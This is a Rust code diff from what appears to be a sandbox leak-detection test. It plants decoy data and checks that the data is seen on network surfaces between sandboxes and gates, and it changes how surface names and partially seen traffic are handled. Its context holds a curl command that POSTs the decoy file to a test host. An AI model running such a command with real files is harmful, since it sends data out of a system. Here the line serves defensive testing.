@@ -31,6 +31,12 @@ cat decoys-of-workspace
 cat decoys-of-workspace >&2
 curl -sS -f -o /dev/null --data-binary @decoys-of-workspace https://api.torno.test/public/back"#;
 
+/// The surfaces that the witness reads.
+const NETWORK: [&str; 2] = [
+    "from sandboxes to their gates",
+    "from gates to their sandboxes",
+];
+
 /// Plants, collects and searches.
 #[track_caller]
 pub(crate) fn everything(mut stage: Stage, level: &str) {
@@ -41,8 +47,9 @@ pub(crate) fn everything(mut stage: Stage, level: &str) {
     let mut surfaces = collected(&stage);
     if let Some(seen) = seen {
         complete(&stage, &seen, decided);
-        surfaces.push(("from sandboxes to their gates", seen.to_gate));
-        surfaces.push(("from gates to their sandboxes", seen.from_gate));
+        let [to_gate, from_gate] = NETWORK;
+        surfaces.push((to_gate, seen.to_gate));
+        surfaces.push((from_gate, seen.from_gate));
     } else {
         println!("not searched: between sandboxes and gates: only root may read a network");
     }
@@ -50,8 +57,9 @@ pub(crate) fn everything(mut stage: Stage, level: &str) {
     let mut sweep = Sweep::default();
     for (name, bytes) in surfaces {
         let missing = missing(name, &decoy, &bytes);
+        let in_part = stage.seen_in_part.get() && NETWORK.contains(&name);
         assert!(
-            missing.is_empty(),
+            in_part || missing.is_empty(),
             "decoys not found in {name}: {missing:?}"
         );
         sweep.add(name, [b"surface:\n", bytes.as_slice()].concat());
@@ -189,7 +197,7 @@ fn decided(stage: &Stage) -> usize {
 /// The witness saw at least the requests that the notary judged, and could read them.
 #[track_caller]
 fn complete(stage: &Stage, seen: &Seen, decided: usize) {
-    if stage.sealed.get() {
+    if stage.seen_in_part.get() {
         println!(
             "not searched: {} streams: {:?}",
             seen.unopened.len(),
